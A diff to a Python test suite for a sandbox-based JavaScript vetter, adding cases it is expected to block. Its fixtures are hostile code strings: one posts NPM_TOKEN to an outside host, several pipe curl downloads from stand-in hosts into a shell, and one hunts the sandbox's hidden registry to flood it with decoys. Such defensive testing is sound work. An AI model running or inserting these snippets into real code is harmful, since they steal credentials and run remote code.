@@ -135,6 +135,15 @@ MALICIOUS = [
         Verdict.BLOCK,
     ),
     (
+        "missing-axios-posts-a-token",
+        CJS,
+        "async function backup() {\n  const axios = require('axios');\n"
+        "  await axios.post('https://backup.example.net/upload', { token: process.env.NPM_TOKEN });\n}\n",
+        "server.js",
+        "secret.exfiltration",
+        Verdict.BLOCK,
+    ),
+    (
         "typescript-typed-params",
         TS,
         "export function report(endpoint: string, retries: number, verbose: boolean): void {\n"
@@ -211,20 +220,22 @@ def test_a_benign_function_is_called_and_allowed(vetter, name, document, text, p
     assert "returned" in message, message  # it was called, and got through
 
 
-def test_a_never_settling_promise_and_an_endless_loop_end_within_the_limits(vetter):
+def test_a_never_settling_promise_and_endless_loops_end_within_their_share(vetter):
     start = time.monotonic()
     result = vet(
         vetter,
         CJS,
         "async function wait() {\n  await new Promise(() => {});\n}\n"
         "function spin() {\n  for (;;) {}\n}\n"
+        "async function churn() {\n  await null;\n  for (;;) {}\n}\n"
         "function after() {\n  require('child_process').execSync('curl http://x.example/a | bash');\n}\n",
     )
     elapsed = time.monotonic() - start
     run = result.sandbox
     assert run is not None and not run.timed_out and run.killed is None, run
     message = calls_message(result)
-    assert "wait() timed-out" in message and "spin() timed-out" in message, message
+    # An endless loop after an await is past vm's timeout: the watchdog thread stops it.
+    assert "wait() timed-out" in message and "spin() timed-out" in message and "churn() timed-out" in message
     # The calls after them still ran.
     assert "process.download-and-run" in sandbox_rules(result)
     assert elapsed < vetter.policy.sandbox.limits.wall_time_s + 10
@@ -257,6 +268,37 @@ def test_patching_proxy_function_prototype_and_the_registry_does_not_hide_the_ca
     assert "process.download-and-run" in rules, (rules, result.findings)
     assert result.verdict is Verdict.BLOCK
     assert "upload()" in calls_message(result)  # called (how it ended is the patched runtime's business)
+
+
+def test_decoys_registered_first_do_not_stand_in_for_the_target(vetter):
+    """The program finds the exercise's registry and registers harmless functions under every index
+    before its real handler is registered: only registrations made by the rewrite count."""
+    result = vet(
+        vetter,
+        CJS,
+        "const reg = Object.getOwnPropertySymbols(globalThis).find((s) => String(s.description).startsWith('sandgate.exercise'));\n"
+        "for (let i = 0; i < 30; i++) for (let j = 0; j < 5; j++) globalThis[reg](i, 1, () => {}), globalThis[reg](i, 0, () => () => {});\n"
+        "app.post('/hook', (req, res) => {\n  require('child_process').execSync('curl -s http://x.example/h | sh');\n});\n",
+    )
+    assert "process.download-and-run" in sandbox_rules(result), result.findings
+    done = next(e for e in result.sandbox.events if e.get("kind") == "exercise-done")
+    assert done.get("foreign") == 300, done
+
+
+def test_a_function_that_exits_ends_its_call_not_the_run(vetter):
+    """process.exit() in a called function is its call's end (as Python's SystemExit), so a command's
+    main() is allowed, and the functions after it are still called."""
+    result = vet(
+        vetter,
+        CJS,
+        "function main() {\n  console.log('usage: server [--port N]');\n  process.exit(2);\n}\n"
+        "function after() {\n  require('child_process').execSync('curl http://x.example/e | sh');\n}\n",
+    )
+    assert "main() exited (process.exit(2))" in calls_message(result)
+    rules = sandbox_rules(result)
+    assert "exercise.incomplete" not in rules and "process.download-and-run" in rules, rules
+    benign = vet(vetter, CJS, "function main() {\n  console.log('usage: server [--port N]');\n  process.exit(0);\n}\n")
+    assert sandbox_rules(benign) == set() and benign.verdict is Verdict.ALLOW, benign.findings
 
 
 def test_exiting_from_the_module_body_skips_the_calls_and_is_held(vetter):
